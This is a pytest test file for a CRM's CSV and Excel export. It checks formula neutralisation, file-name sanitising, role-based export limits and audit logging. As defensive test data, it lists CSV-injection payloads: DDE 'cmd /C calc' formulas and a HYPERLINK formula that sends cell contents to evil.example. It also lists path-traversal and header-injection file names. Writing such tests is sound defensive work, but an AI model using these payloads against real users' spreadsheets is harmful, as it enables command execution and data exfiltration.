"""Exports: what a spreadsheet would run is neutralised, everything else comes back as it was."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from crm.exchange import exporting
from crm.models import Event
from customers.models import Customer
from tests.crm.lists_rows import make_customers

# OWASP "CSV Injection" and the payloads of the incidents in its references.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "%0A=1+1",
    "|calc",
    '=DDE("cmd";"/C calc";"x")',
]
HARMLESS = ["Acme", "a=b", "1-2", "O'Brien", "50%", "me@example.com", "", "张伟", "'quoted'", "x\ny"]


def read_csv(response):
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_shown_and_not_run(text):
    cell = exporting.csv_cell(text)

    assert cell.startswith("'")
    assert exporting.restored(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays_as_it_is(text):
    assert exporting.csv_cell(text) == text
    assert exporting.restored(text) == text


def test_numbers_stay_numbers_also_negative_ones():
    assert [exporting.csv_cell(value) for value in (-5, 1.5, Decimal("-12.30"), 0, None)] == [
        "-5",
        "1.5",
        "-12.30",
        "0",
        "",
    ]


def test_moments_dates_and_durations_are_written_so_that_machines_read_them():
    moment = dt.datetime(2026, 5, 13, 12, 0, tzinfo=dt.UTC)

    assert exporting.csv_cell(moment) == "2026-05-13 12:00:00+00:00"
    assert exporting.csv_cell(moment.date()) == "2026-05-13"
    assert exporting.csv_cell(dt.timedelta(minutes=5)) == "300.0"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Customers", "Customers-2026-05-13.csv"),
        ("../../etc/passwd", "etc-passwd-2026-05-13.csv"),
        ('a"; filename="b.exe', "a-filename-b-exe-2026-05-13.csv"),
        ("客户", "客户-2026-05-13.csv"),
        ("\r\nSet-Cookie: x", "Set-Cookie-x-2026-05-13.csv"),
        ("...", "export-2026-05-13.csv"),
    ],
)
def test_a_file_name_is_letters_digits_and_dashes(name, expected):
    assert exporting.file_name(name, dt.datetime(2026, 5, 13, tzinfo=dt.UTC), "csv") == expected


pages = pytest.mark.urls("tests.crm.lists_urls")


@pages
@pytest.mark.django_db
def test_the_export_holds_exactly_what_is_filtered_sorted_and_shown(client, cast, now):
    make_customers(12, cast.rep, now, lifecycle="active", founded=1990)
    make_customers(3, cast.rep, now, name="Old", lifecycle="churned")
    make_customers(3, cast.outsider, now, name="Theirs", lifecycle="active")
    client.force_login(cast.rep)

    response = client.get("/sample/export/?lifecycle=active&sort=-name&columns=name,founded,owner&format=csv")
    rows = read_csv(response)

    assert rows[0] == ["Name", "Founded", "Owner"]
    assert rows[1] == ["C 11", "1990", "Rosa Rep"]
    assert len(rows) == 13
    assert response["Content-Disposition"].startswith('attachment; filename="Sample-customers-')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]


@pages
@pytest.mark.django_db
def test_the_excel_file_holds_texts_numbers_and_moments_as_such(client, cast, now):
    customer = make_customers(1, cast.rep, now, name="=1+1", founded=1990, annual_revenue=Decimal("-12.50"))[0]
    client.force_login(cast.rep)

    response = client.get("/sample/export/?columns=name,founded,annual_revenue,updated_at&format=xlsx")
    sheet = read_xlsx(response).active
    name, founded, revenue, changed = sheet[2]

    assert (name.value, name.data_type) == (customer.name, "s")
    assert (founded.value, revenue.value) == (1990, -12.5)
    assert changed.value == dt.datetime(2026, 5, 13, 12, 0)  # noqa: DTZ001  (a cell has no zone)


@pages
@pytest.mark.django_db
def test_only_what_the_role_lets_the_person_export_is_exported(client, cast, now):
    """A rep sees the team's customers but takes only their own away."""
    make_customers(2, cast.rep, now, name="Mine")
    make_customers(2, cast.teammate, now, name="Teammates")
    client.force_login(cast.rep)

    assert len(client.get("/sample/").context["list"].rows) == 4
    assert [row[0] for row in read_csv(client.get("/sample/export/?sort=name"))] == ["Name", "Mine 00", "Mine 01"]


@pages
@pytest.mark.django_db
def test_a_role_without_export_is_refused_and_not_offered_it(client, cast, now):
    make_customers(1, cast.rep, now)
    client.force_login(cast.agent)

    assert client.get("/sample/export/").status_code == 403
    assert "data-list-export" not in client.get("/sample/").content.decode()
    assert not Event.objects.filter(type="export.made").exists()


@pages
@pytest.mark.django_db
def test_every_export_is_noted_with_what_was_taken(client, cast, now):
    make_customers(3, cast.rep, now, lifecycle="active")
    client.force_login(cast.rep)

    read_xlsx(client.get("/sample/export/?lifecycle=active&columns=name&format=xlsx"))

    event = Event.objects.get(type="export.made")
    assert (event.by, event.subject_kind, event.subject_id) == (cast.rep, "person", cast.rep.pk)
    assert event.data == {
        "list": "sample-list",
        "query": "lifecycle=active&sort=-updated_at&columns=name",
        "columns": ["name"],
        "format": "xlsx",
        "rows": 3,
    }


@pages
@pytest.mark.django_db
def test_an_unknown_format_is_not_there_and_is_not_noted(client, cast):
    client.force_login(cast.rep)

    assert client.get("/sample/export/?format=exe").status_code == 404
    assert not Event.objects.filter(type="export.made").exists()


@pages
@pytest.mark.django_db
def test_a_filter_value_nobody_can_use_exports_no_rows(client, cast, now):
    make_customers(3, cast.rep, now)
    client.force_login(cast.rep)

    assert len(read_csv(client.get("/sample/export/?founded_min=soon"))) == 1


@pages
@pytest.mark.django_db
def test_rows_without_a_value_come_last_as_on_the_page(client, cast, now):
    for place, customer in enumerate(make_customers(4, cast.rep, now)):
        Customer.objects.filter(pk=customer.pk).update(founded=None if place < 2 else 1900 + place)
    client.force_login(cast.rep)

    for sort in ("founded", "-founded"):
        page = [row.label for row in client.get(f"/sample/?sort={sort}").context["list"].rows]
        assert [row[0] for row in read_csv(client.get(f"/sample/export/?sort={sort}"))][1:] == page


@pages
@pytest.mark.django_db
def test_the_queries_of_an_export_do_not_grow_with_its_rows(client, cast, now, django_assert_max_num_queries):
    client.force_login(cast.rep)
    make_customers(500, cast.rep, now)

    with django_assert_max_num_queries(26):
        assert len(read_csv(client.get("/sample/export/"))) == 501


@pages
@pytest.mark.django_db
def test_moments_are_written_in_the_zone_of_the_person_although_the_request_is_over(client, cast, now):
    make_customers(1, cast.rep, now)
    cast.rep.timezone = "Asia/Shanghai"
    cast.rep.save()
    client.force_login(cast.rep)

    rows = read_csv(client.get("/sample/export/?columns=updated_at"))

    assert rows[1] == ["2026-05-13 20:00:00+08:00"]


def table(rows, name="Rows"):
    return exporting.Table(name, ["n"], rows, lambda value: [value], len(rows))


def test_an_excel_file_goes_on_to_the_next_sheet_when_one_is_full(monkeypatch):
    monkeypatch.setattr("crm.exchange.spreadsheet.ROWS", 3)
    monkeypatch.setattr("crm.exchange.exporting.BATCH", 2)

    content = b"".join(exporting.xlsx("Rows", ["n"], table(range(7)).batches()))
    book = load_workbook(io.BytesIO(content))

    assert book.sheetnames == ["Rows", "Rows 2", "Rows 3"]
    assert [[row[0].value for row in sheet] for sheet in book] == [["n", 0, 1, 2], ["n", 3, 4, 5], ["n", 6]]


@pytest.mark.parametrize("value", ["<b>&\"'", "\x01\x0b", "a\r\nb", "x" * 40_000, "\ud800", float("nan"), float("inf")])
def test_every_value_makes_a_readable_excel_file(value):
    content = b"".join(exporting.xlsx("[a]:*?/\\'&<\"", ["n"], table([value]).batches()))

    assert len(load_workbook(io.BytesIO(content)).active["A2"].value or "") <= 32_767


def test_an_empty_excel_file_has_its_head():
    content = b"".join(exporting.xlsx("Rows", ["n"], table([]).batches()))

    assert [row[0].value for row in load_workbook(io.BytesIO(content)).active] == ["n"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_an_excel_file_is_a_formula(text):
    content = b"".join(exporting.xlsx("Rows", ["n"], table([text]).batches()))
    cell = load_workbook(io.BytesIO(content)).active["A2"]

    assert cell.data_type in ("s", "inlineStr")
